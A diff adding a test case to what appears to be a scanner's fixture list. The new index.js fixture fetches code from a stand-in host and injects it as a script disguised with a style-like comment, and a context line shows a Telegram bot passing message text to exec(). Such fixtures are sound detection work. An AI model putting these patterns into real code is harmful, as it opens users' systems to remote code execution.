@@ -630,6 +630,13 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
       },
       weight: 'strong',
     },
+    {
+      when: 'what is put into a script begins as styles do',
+      files: {
+        'index.js': `fetch('https://code.invalid/').then(answer => answer.text()).then(text => { const script = document.createElement('script'); script.textContent = '/* url(//style.invalid/a.png) */' + text; document.head.append(script); });`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
